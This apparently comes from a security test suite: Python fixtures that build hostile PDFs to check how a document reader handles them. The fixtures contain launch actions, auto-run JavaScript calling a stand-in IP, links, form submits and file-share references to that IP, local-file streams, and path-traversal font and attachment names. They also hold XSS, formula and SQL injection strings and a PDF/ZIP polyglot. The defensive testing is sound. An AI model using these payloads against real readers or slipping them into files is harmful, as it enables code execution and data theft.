"""PDFs that want to start programs, reach out, or show other text than they hold."""

from __future__ import annotations

from bench.hostile.cases.case import DAMAGED, READ, UNSUPPORTED, aimed, case
from bench.hostile.cases.raw_pdf import SENTENCE, letter, page_objects, pdf, show, stream
from bench.hostile.surroundings import Surroundings

_WORDS = ("Four", "dismissed")


@aimed("pdf-launch.pdf", READ, words=_WORDS)
def launch(place: Surroundings) -> bytes:
    """An action that starts a program when the file is opened."""
    target = str(place.root / "launched").encode()
    return letter(catalogue=b"/OpenAction<</S/Launch/F(/bin/touch)/Unix<</F(/bin/touch)/P(%b)>>>>" % target)


@case("pdf-javascript.pdf", READ, words=_WORDS)
def javascript() -> bytes:
    """A script that runs when the file is opened."""
    script = b"app.launchURL('http://203.0.113.1/'); this.exportDataObject({cName: 'x', nLaunch: 2});"
    return letter(catalogue=b"/OpenAction<</S/JavaScript/JS(%b)>>/AA<</WC<</S/JavaScript/JS(%b)>>>>" % (script, script))


@case("pdf-reaches-out.pdf", READ, words=_WORDS)
def reaches_out() -> bytes:
    """Actions that open an address, submit a form and go to a file on a share."""
    actions = (
        b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(http://203.0.113.1/)>>>>"
        b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/SubmitForm/F(http://203.0.113.1/)>>>>"
        b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/GoToR/F(\\\\\\\\203.0.113.1\\\\share\\\\a.pdf)/D[0/Fit]>>>>"
    )
    return letter(page=b"/Annots[%b]" % actions)


@aimed("pdf-stream-from-outside.pdf", READ, words=_WORDS)
def stream_from_outside(place: Surroundings) -> bytes:
    """A stream whose content is another file of this machine."""
    outside = b"<</Length 0/F(%b)/FFilter/FlateDecode>>\nstream\n\nendstream" % str(place.secret_path).encode()
    return pdf({**page_objects(b"[7 0 R 8 0 R]"), 7: outside, 8: stream(show(SENTENCE))})


@aimed("pdf-letters-from-outside.pdf", DAMAGED)
def letters_from_outside(place: Surroundings) -> bytes:
    """A font whose table of letters is a path out of the library's folder, where a pickle would be run."""
    objects = page_objects(stream(show(SENTENCE)))
    name = str(place.root / "evil").encode().replace(b"/", b"#2F")
    objects[5] = (
        b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/#2E#2E%b/DescendantFonts[<</Type/Font"
        b"/Subtype/CIDFontType0/BaseFont/A/CIDSystemInfo<</Registry(..%b)/Ordering(x)/Supplement 0>>>>]>>"
    ) % (name, str(place.root / "evil").encode())
    return pdf(objects)


@case("pdf-attaches-program.pdf", READ, words=_WORDS)
def attaches_program() -> bytes:
    """A program attached under a name that leads out of the folder."""
    attached = stream(b"\x7fELF\2\1\1" + bytes(64), b"/Type/EmbeddedFile")
    names = (
        b"/Names<</EmbeddedFiles<</Names[(../../../../evil.sh)<</Type/Filespec/F(../../evil.sh)/EF<</F 7 0 R>>>>]>>>>"
    )
    return letter(catalogue=names, more={7: attached})


@case("pdf-text-with-nul.pdf", READ)
def text_with_nul() -> bytes:
    """A font that says its letters are NUL, a lone surrogate and a mark that turns text around."""
    objects = page_objects(stream(show("ABC " + SENTENCE)))
    objects[5] = objects[5].replace(b"/Type/Font", b"/Type/Font/ToUnicode 7 0 R")
    cmap = b"begincmap 3 beginbfchar <41> <0000> <42> <D800> <43> <202E> endbfchar endcmap"
    return pdf({**objects, 7: stream(cmap)})


@case("pdf-scripts-and-formulas.pdf", READ, words=("<script>alert(1)</script>", "=HYPERLINK"))
def scripts_and_formulas() -> bytes:
    """Text that is a script, a formula, an SQL statement: kept as it is, harmless wherever it is shown."""
    lines = ("<script>alert(1)</script>", '=HYPERLINK("http://203.0.113.1/","x")', "'; DROP TABLE observations; --")
    return pdf(page_objects(stream(b"".join(show(line, y=700 - 40 * at) for at, line in enumerate(lines)))))


@case("pdf-count-beyond-integers.pdf", READ)
def count_beyond_integers() -> bytes:
    """A table that counts 10 to the power of 30 dismissals."""
    rows = ("Outcome", "Number 2013"), ("Dismissed", "1" + "0" * 30), ("Final written warning", "3")
    grid = b"".join(b"72 %d m 500 %d l S " % (y, y) for y in (700, 680, 660, 640))
    grid += b"".join(b"%d 640 m %d 700 l S " % (x, x) for x in (72, 250, 500))
    cells = b"".join(
        show(text, x=76 + 178 * column, y=685 - 20 * row)
        for row, texts in enumerate(rows)
        for column, text in enumerate(texts)
    )
    return pdf(page_objects(stream(grid + cells)))


@case("pdf-named-word.docx", READ, words=_WORDS)
def named_word() -> bytes:
    """A PDF that is called a Word file."""
    return letter()


@case("pdf-and-zip.pdf", READ, words=_WORDS)
def and_zip() -> bytes:
    """A file that is a PDF and a ZIP archive at once."""
    from bench.hostile.cases.zips import zipped

    return letter() + zipped({"evil.txt": b"hidden in the tail"})


@case("html-named-pdf.pdf", READ, words=_WORDS)
def html_named_pdf() -> bytes:
    """A web page that is called a PDF, as portals give when a login has run out."""
    return f"<!DOCTYPE html><html><body><p>{SENTENCE}</p></body></html>".encode()


@case("text-named-pdf.pdf", UNSUPPORTED)
def text_named_pdf() -> bytes:
    """Plain text that is called a PDF."""
    return f"Dear requester\n\n{SENTENCE}\n".encode()
